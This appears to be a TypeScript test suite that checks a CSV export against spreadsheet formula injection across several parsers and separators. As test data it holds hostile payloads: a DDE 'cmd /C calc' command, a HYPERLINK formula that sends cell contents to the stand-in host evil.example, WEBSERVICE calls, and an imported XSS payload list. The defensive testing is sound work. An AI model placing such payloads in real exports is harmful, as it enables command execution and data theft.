// The CSV writer against formula injection (OWASP "CSV Injection", ASVS 5.0 1.2.10): the naughty
// strings, the XSS payloads and generated formula payloads, written through `buildCsv` and read
// back by three parsers a spreadsheet or a script might use, each splitting on a comma, a
// semicolon, a tab or a pipe. No cell may start a formula, whatever the parser and separator; read
// as the file is written (RFC 4180, comma), every field is the text that went in.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { buildCsv, csvField, csvRow } from '../../src/components/shared/csv.js';
import { naughtyStrings } from '../fixtures/blns.js';
import { xssPayloads } from '../fixtures/xss-payloads.js';
import { show } from './helpers.js';

type Parser = (text: string, separator: string) => string[][];

/** Python's csv module and Excel: a quote is special only at the start of a field. */
const parseQuoteAtStart: Parser = (text, separator) => {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let state: 'start' | 'plain' | 'quoted' = 'start';
  const endField = () => {
    record.push(field);
    ((field = ''), (state = 'start'));
  };
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i]!;
    if (state === 'quoted') {
      if (ch === '"' && text[i + 1] === '"') ((field += '"'), (i += 1));
      else if (ch === '"') state = 'plain';
      else field += ch;
    } else if (state === 'start' && ch === '"') state = 'quoted';
    else if (ch === separator) endField();
    else if (ch === '\r' || ch === '\n') {
      if (ch === '\r' && text[i + 1] === '\n') i += 1;
      endField();
      records.push(record);
      record = [];
    } else ((field += ch), (state = 'plain'));
  }
  if (field || record.length) records.push([...record, field]);
  return records;
};

/** LibreOffice-like: every quote opens or closes quoting, a doubled one inside is a quote. */
const parseQuoteToggles: Parser = (text, separator) => {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i]!;
    if (ch === '"' && quoted && text[i + 1] === '"') ((field += '"'), (i += 1));
    else if (ch === '"') quoted = !quoted;
    else if (quoted) field += ch;
    else if (ch === separator) (record.push(field), (field = ''));
    else if (ch === '\r' || ch === '\n') {
      if (ch === '\r' && text[i + 1] === '\n') i += 1;
      records.push([...record, field]);
      ((record = []), (field = ''));
    } else field += ch;
  }
  if (field || record.length) records.push([...record, field]);
  return records;
};

/** A script's `split`: lines, then separators, then the quotes around a cell stripped. */
const parseSplit: Parser = (text, separator) =>
  text.split(/\r\n|\r|\n/).map((line) => line.split(separator).map((cell) => cell.replace(/^"+|"+$/g, '')));

const PARSERS = { 'quote at start': parseQuoteAtStart, 'quote toggles': parseQuoteToggles, split: parseSplit };
const SEPARATORS = [',', ';', '\t', '|'];

/** A cell a spreadsheet runs: a trigger first, also after blanks, controls, format characters or quotes it may drop. */
const startsFormula = (cell: string) => /^[\s\p{Cc}\p{Cf}"]*[=+\-@]/u.test(cell);

const TRIGGERS = ['=', '+', '-', '@'];
const LEADS = [
  '',
  ' ',
  '  ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\0',
  '\u00a0',
  '\u3000',
  '\u200b',
  '\ufeff',
  '\u202e',
  '"',
  '""',
];
const BODIES = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '1+1',
  'SUM(A1:A9)',
  'WEBSERVICE("http://x")',
];
const GLUES = ['', ',', ';', '\t', '|', '\r\n', '\n', '\r'];

/** Formula payloads: a trigger after each lead, at the start of the text and after each separator. */
const formulaPayloads = TRIGGERS.flatMap((trigger) =>
  LEADS.flatMap((lead) =>
    BODIES.flatMap((body) =>
      GLUES.map((glue) => (glue ? `x${glue}${lead}${trigger}${body}${glue}y` : `${lead}${trigger}${body}`)),
    ),
  ),
);

const corpora = [
  { name: 'Big List of Naughty Strings', strings: naughtyStrings },
  { name: 'DOMPurify XSS payloads', strings: xssPayloads },
  { name: 'generated formula payloads', strings: formulaPayloads },
];

async function* itemsOf<T>(items: readonly T[]) {
  yield* items;
}

/** The file as a spreadsheet gets it: `rows` through `buildCsv`, decoded, without the byte order mark. */
async function written(rows: readonly (readonly string[])[]): Promise<string> {
  const { blob } = await buildCsv(itemsOf(rows), {
    header: ['first', 'second', 'third'],
    cells: (row) => row,
    chunkSize: 50,
  });
  const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(await blob.arrayBuffer());
  assert.equal(text[0], '\uFEFF');
  return text.slice(1);
}

/** Each payload in three places: a field of its own, after a harmless field, and inside text. */
const rowsOf = (strings: readonly string[]) => strings.map((text) => [text, 'plain', `Created the task “${text}”`]);

describe('CSV export against formula injection', () => {
  it('should have formula payloads to write', () => {
    assert.ok(formulaPayloads.length > 2000);
    assert.ok(naughtyStrings.filter(startsFormula).length > 10, 'naughty strings starting a formula');
  });

  for (const { name, strings } of corpora) {
    it(`should leave no cell starting a formula, whatever the parser and separator: ${name}`, async () => {
      const csv = await written(rowsOf(strings));
      for (const [parserName, parse] of Object.entries(PARSERS)) {
        for (const separator of SEPARATORS) {
          const formulas = parse(csv, separator).flat().filter(startsFormula);
          assert.deepEqual(formulas.map(show), [], `${parserName}, separator ${show(separator)}`);
        }
      }
    });

    it(`should read back every field as written, with formula starts defused: ${name}`, async () => {
      const csv = await written(rowsOf(strings));
      const records = parseQuoteAtStart(csv, ',');
      assert.equal(records.length, strings.length + 1);
      assert.deepEqual(records[0], ['first', 'second', 'third']);
      strings.forEach((text, i) => {
        const [own, plain, inside] = records[i + 1]!;
        assert.equal(plain, 'plain');
        assert.equal(own, defused(text), show(text));
        assert.equal(inside, defused(`Created the task “${text}”`), show(text));
        // Only apostrophes are added, and NUL characters dropped: nothing else of the text changes.
        assert.equal(own!.replaceAll("'", ''), text.replaceAll('\0', '').replaceAll("'", ''), show(text));
      });
    });
  }

  it('should write the reported payload so no spreadsheet runs it', () => {
    assert.equal(csvField("x;=cmd|' /C calc'!A0;y"), `"x;'=cmd|' /C calc'!A0;y"`);
    assert.equal(csvField('\0=1+1'), `"'=1+1"`);
    assert.equal(csvField('  @SUM(1)'), `"'  @SUM(1)"`);
    // A tab may be the separator: the cell after it is guarded too.
    assert.equal(csvField(' \t@SUM(1)'), `"' \t'@SUM(1)"`);
    assert.equal(csvField('a "b", c - d; e'), '"a ""b"", c - d; e"');
    assert.equal(csvRow(['x;=1', 7, null], ';'), `"x;'=1";"7";""\r\n`);
  });
});

/**
 * The rule written out again, independently of the writer: an apostrophe before a field that starts
 * a formula or with a tab, CR, LF or NUL, and after each separator that a formula start follows;
 * NUL characters dropped.
 */
function defused(text: string): string {
  let out = /^[\t\r\n\0]/.test(text) || startsFormula(text) ? "'" : '';
  for (let i = 0; i < text.length; i += 1) {
    out += text[i];
    if (',;\t|\r\n'.includes(text[i]!) && startsFormula(text.slice(i + 1))) out += "'";
  }
  return out.replaceAll('\0', '');
}
